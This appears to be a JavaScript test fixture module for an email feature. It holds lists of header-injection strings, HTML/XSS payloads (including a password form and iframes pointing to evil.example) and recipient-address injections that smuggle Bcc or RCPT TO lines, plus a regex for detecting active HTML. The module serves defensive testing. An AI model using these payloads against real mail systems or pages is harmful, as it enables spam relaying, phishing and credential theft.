// Texts that a person might type to reach other people, add a header or run a script in a reader's mail program.
const breaks = [
  "\r\n",
  "\n",
  "\r",
  "\r\n\r\n",
  "\u2028",
  "\u2029",
  "\u0085",
  "\0\r\n",
  "%0d%0a",
  "=0D=0A",
  "\v\f\r\n ",
  "\\r\\n",
];
const injectedHeaders = [
  "Bcc: evil@elsewhere.example",
  "To: evil@elsewhere.example",
  "Cc: evil@elsewhere.example",
  "X-Evil: 1",
  "Content-Type: text/html",
  "List-Unsubscribe: <https://evil.example>",
  "\r\n<script>alert(1)</script>",
];

export const headerInjections = breaks.flatMap((line) => injectedHeaders.map((header) => `Hello${line}${header}`));

export const htmlInjections = [
  "<script>alert(1)</script>",
  '<img src=x onerror="alert(1)">',
  `"><a href="javascript:alert(1)">x</a>`,
  "</body><iframe src=//evil.example>",
  "<svg/onload=alert(1)>",
  "<style>*{display:none}</style>",
  "<form action=//evil.example><input name=password>",
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  "<link rel=stylesheet href=//evil.example>",
  "<base href=//evil.example>",
  "<!--[if mso]><script>alert(1)</script><![endif]-->",
  "</p></div><object data=//evil.example>",
  "<<script>alert(1)//<</script>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "<video><source onerror=alert(1)>",
  "<math href=javascript:alert(1)>x</math>",
  "<ScRiPt >alert(1)</ScRiPt >",
  "\u202e<embed src=//evil.example>",
];

/** No tag but those that the letter itself writes, and no attribute that does something. */
export const activeHtml =
  /<(script|img|iframe|svg|style|form|input|link|base|object|embed|video|source|math)\b|<meta http-equiv|<!--|\son\w+=["']|href="(?!https?:\/\/127\.|mailto:|https:\/\/waymark)/i;

export const addressInjections = [
  ...breaks.map((line) => `a@northwind.example${line}Bcc: evil@elsewhere.example`),
  "a@northwind.example,evil@elsewhere.example",
  "a@northwind.example;evil@elsewhere.example",
  "a@northwind.example evil@elsewhere.example",
  "<a@northwind.example>",
  "A <a@northwind.example>",
  "a@northwind.example>\r\nRCPT TO:<evil@elsewhere.example",
  '"a b"@northwind.example',
  "a@northwind.example\0",
  "group: evil@elsewhere.example;",
  "@northwind.example",
  "a@@northwind.example",
];
